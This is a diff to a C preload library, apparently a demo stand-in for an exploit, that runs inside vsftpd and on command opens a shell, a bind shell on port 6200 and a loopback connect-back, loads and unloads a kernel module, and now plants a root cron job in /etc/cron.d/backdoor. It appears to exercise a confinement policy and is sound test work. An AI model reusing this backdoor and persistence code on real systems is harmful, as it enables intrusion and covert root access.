@@ -1,11 +1,13 @@
 // SPDX-License-Identifier: GPL-2.0
 /*
  * The demo's stand-in for an exploit: preloaded into vsftpd, it runs a
- * thread inside the daemon that, when /run/attack appears, does what the
- * intruder of the FTP incident did with their root shell - spawn a shell,
- * open a bind shell, connect out, load a module - and writes each outcome
- * to /run/attack.log ("rootkit" in /run/attack adds the module steps).
- * It only ever touches loopback addresses.
+ * thread inside the daemon that, when /run/attack holds a new command,
+ * does what the intruder of the FTP incident did with their root shell -
+ * spawn a shell, open a bind shell, connect out, plant a cron job, load a
+ * module - and writes each outcome to /run/attack.log ("rootkit" in the
+ * command adds the module steps).  The log is opened when the daemon
+ * starts, as an exploit's channel back would be.  It only ever touches
+ * loopback addresses.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -19,6 +21,23 @@
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
+
+/* The channel back, opened before any policy is loaded. */
+static int log_fd = -1;
+
+static int plant_cron_job(void)
+{
+	int fd = open("/etc/cron.d/backdoor", O_WRONLY | O_CREAT | O_CLOEXEC,
+		      0644);
+	static const char job[] = "* * * * * root /bin/sh -c 'id > /run/pwned'\n";
+	int ret;
+
+	if (fd < 0)
+		return -1;
+	ret = write(fd, job, sizeof(job) - 1) < 0 ? -1 : 0;
+	close(fd);
+	return ret;
+}
 
 static void note(FILE *log, const char *what, int ret)
 {
@@ -82,8 +101,8 @@ static int tcp(const char *ip, int port, int bind_it)
 
 static void attack(int rootkit)
 {
-	FILE *log = fopen("/run/attack.log", "a");
-	int fd;
+	int fd = dup(log_fd);
+	FILE *log = fd < 0 ? NULL : fdopen(fd, "a");
 
 	if (!log)
 		return;
@@ -93,7 +112,10 @@ static void attack(int rootkit)
 	note(log, "bind shell on port 6200", tcp("0.0.0.0", 6200, 1));
 	note(log, "connect out to 127.0.0.2:4444 (its server)",
 	     tcp("127.0.0.2", 4444, 0));
+	note(log, "plant a root cron job (/etc/cron.d/backdoor)",
+	     plant_cron_job());
 	if (!rootkit) {
+		fprintf(log, "done\n");
 		fclose(log);
 		return;
 	}
@@ -104,11 +126,15 @@ static void attack(int rootkit)
 		close(fd);
 	note(log, "unload dmzguard",
 	     (int)syscall(SYS_delete_module, "dmzguard", O_NONBLOCK));
+	fprintf(log, "done\n");
 	fclose(log);
 }
 
+/* Each new command in /run/attack ("N basic", "N rootkit") runs once. */
 static void *watch(void *arg)
 {
+	char last[32] = "";
+
 	(void)arg;
 	for (;;) {
 		char buf[32] = "";
@@ -118,8 +144,10 @@ static void *watch(void *arg)
 			if (!fgets(buf, sizeof(buf), f))
 				buf[0] = '\0';
 			fclose(f);
-			unlink("/run/attack");
-			attack(strstr(buf, "rootkit") != NULL);
+			if (buf[0] && strcmp(buf, last)) {
+				memcpy(last, buf, sizeof(last));
+				attack(strstr(buf, "rootkit") != NULL);
+			}
 		}
 		usleep(100000);
 	}
@@ -133,6 +161,8 @@ __attribute__((constructor)) static void plant(void)
 	/* Only in the daemon itself, not in programs it might run. */
 	if (!strstr(program_invocation_name, "vsftpd"))
 		return;
+	log_fd = open("/run/attack.log", O_WRONLY | O_CREAT | O_APPEND |
+		      O_CLOEXEC, 0600);
 	pthread_create(&t, NULL, watch, NULL);
 	pthread_detach(t);
 }
